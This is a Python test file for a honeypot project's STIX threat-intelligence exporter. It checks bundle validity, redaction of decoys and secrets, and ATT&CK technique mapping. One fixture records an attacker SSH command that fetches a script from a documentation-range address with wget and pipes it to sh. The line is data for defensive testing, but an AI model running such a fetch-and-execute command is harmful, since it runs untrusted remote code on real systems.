"""The STIX bundle, read by OASIS' own library and validator."""

from __future__ import annotations

import json
import warnings
from typing import Any

import pytest
import stix2
from hypothesis import given, settings
from hypothesis import strategies as st
from services import EVENTS
from sightings import ALL, FIELDS, PLAIN, sighting
from test_hidden import EVENTS as KINDS
from test_hidden import LEAKS, OURS, SECRET, leaking

from decnet.export import Sighting, redacted, shared
from decnet.export.sighting import SECRETS
from decnet.export.stix import MARKINGS, stix
from decnet.plan.attack_names import NAMES
from decnet.plan.attack_table import RULES

FLEET = "0b5b8a4e-7f7f-4d27-9a53-6a2c0f2f4d11"

VISIT = [
    sighting("ssh", "scan", {"probe": "syn", "ports": "22,80", "count": 2}),
    sighting("ssh", "login", {"username": "root", "password": "x", "success": True, "method": "password"}),
    sighting("ssh", "command", {"input": "wget http://198.51.100.7/x.sh -O- | sh", "way": "shell"}),
    sighting("ftp", "file", {"path": "/up/x.bin", "size": 12, "sha256": "ab" * 32, "whole": True}),
    sighting("http", "contact", {}, source_ip="2001:db8::7", local_port=80),
]


def objects(text: str) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = json.loads(text)["objects"]
    return found


def of_type(text: str, kind: str) -> list[dict[str, Any]]:
    return [each for each in objects(text) if each["type"] == kind]


def check(text: str) -> None:
    """Parse with stix2, which knows the specification's rules, and compare the ids of observables."""
    bundle = stix2.parse(text, allow_custom=False)
    assert isinstance(bundle, stix2.Bundle)
    for each in objects(text):
        found = stix2.parse(each, allow_custom=False)
        if each["type"] in ("ipv4-addr", "ipv6-addr", "network-traffic", "user-account", "url", "file"):
            again = type(found)(**{name: value for name, value in each.items() if name not in ("id", "type")})
            assert again.id == each["id"], each
    known = {each["id"] for each in objects(text)}
    assert len(known) == len(objects(text))
    for each in objects(text):
        for name, value in each.items():
            if name.endswith(("_ref", "_refs")):
                assert set([value] if isinstance(value, str) else value) <= known, (each["id"], name)


def validate(text: str) -> None:
    """As OASIS' validator does. It has no wheel for all its parts: it is there only after `make install`."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        validator = pytest.importorskip("stix2validator")
        options = validator.ValidationOptions(version="2.1", disabled=["protocols", "network-traffic-ports"])
        result = validator.validate_string(text, options)
    assert result.is_valid, [str(each) for each in result.errors]


@pytest.mark.parametrize("tlp", sorted(MARKINGS))
def test_the_library_and_the_validator_accept_a_visit(tlp: Any) -> None:
    text = stix(map(shared, VISIT), FLEET, tlp)
    check(text)
    validate(text)
    assert of_type(text, "marking-definition")[0]["definition"] == {"tlp": tlp}


def test_every_event_makes_a_valid_bundle() -> None:
    text = stix(map(redacted, PLAIN + ALL + EVENTS), FLEET)
    check(text)
    validate(text)


def test_no_event_makes_a_valid_bundle() -> None:
    text = stix([], FLEET)
    check(text)
    validate(text)
    assert [each["type"] for each in objects(text)] == ["marking-definition", "identity"]


def test_a_visit_is_an_indicator_a_sighting_and_what_was_seen() -> None:
    text = stix(map(shared, VISIT), FLEET)
    assert [each["value"] for each in of_type(text, "ipv4-addr")] == ["203.0.113.9"]
    indicators = {each["pattern"]: each["indicator_types"] for each in of_type(text, "indicator")}
    assert indicators == {
        "[ipv4-addr:value = '203.0.113.9']": ["malicious-activity"],
        "[ipv6-addr:value = '2001:db8::7']": ["anomalous-activity"],
    }
    assert [each["account_login"] for each in of_type(text, "user-account")] == ["root"]
    assert [each["value"] for each in of_type(text, "url")] == ["http://198.51.100.7/x.sh"]
    assert [(each["name"], each["hashes"]) for each in of_type(text, "file")] == [
        ("x.bin", {"SHA-256": "ab" * 32})
    ]
    traffic = {(each["dst_port"], each["protocols"][-1]) for each in of_type(text, "network-traffic")}
    assert traffic == {(22, "ssh"), (22, "ftp"), (80, "http")}
    assert all("dst_ref" not in each for each in of_type(text, "network-traffic"))
    known = {each["external_references"][0]["external_id"] for each in of_type(text, "attack-pattern")}
    assert {"T1059.004", "T1105", "T1078"} <= known


def test_the_same_events_make_the_same_bundle_and_more_events_keep_the_ids() -> None:
    first, again = (stix(map(shared, VISIT), FLEET) for _ in range(2))
    assert first == again
    more = stix(map(shared, [*VISIT, sighting("ssh", "command", {"input": "id"})]), FLEET)
    ids = {each["id"] for each in objects(first)}
    assert ids <= {each["id"] for each in objects(more)}


def test_decoys_are_named_only_if_asked_for() -> None:
    with_decoys = stix(map(redacted, VISIT), FLEET)
    assert {each["value"] for each in of_type(with_decoys, "ipv4-addr")} == {"203.0.113.9", "192.0.2.10"}
    check(with_decoys)


@pytest.mark.parametrize("leak", LEAKS)
def test_no_decoy_is_in_it_wherever_a_visitor_names_one(leak: str) -> None:
    seen = [leaking(service, kind, leak) for service, kind in KINDS]
    text = stix((shared(each, OURS) for each in seen), FLEET).lower()
    squeezed = text.replace(":", "").replace(".", "")
    assert [each for each in OURS if each != "w1" and each in text] == []
    assert [each for each in ("005056aabbcc", "000c29112233") if each in squeezed] == []
    assert "nginx" not in text and '"w1"' not in text


@pytest.mark.parametrize("limited", [shared, redacted])
def test_no_secret_is_in_it(limited: Any) -> None:
    fields = {
        **dict.fromkeys(SECRETS, SECRET),
        "username": "root",
        "input": f"x http://a.b/?password={SECRET}",
    }
    seen = [sighting(service, kind, fields) for service, kind in KINDS]
    assert SECRET not in stix((limited(each) for each in seen), FLEET)


@given(st.lists(st.tuples(st.sampled_from(sorted(FIELDS)), st.text(max_size=50)), max_size=6))
@settings(max_examples=60, deadline=None)
def test_any_text_makes_a_valid_bundle(found: list[tuple[tuple[str, str], str]]) -> None:
    seen: list[Sighting] = []
    for (service, kind), text in found:
        fields = {
            name: text if isinstance(value, str) else value for name, value in FIELDS[service, kind].items()
        }
        seen.append(sighting(service, kind, fields, session=text))
    check(stix(map(shared, seen), FLEET))


def test_every_technique_has_a_name() -> None:
    assert {technique for rule in RULES for technique in rule.techniques} <= set(NAMES)
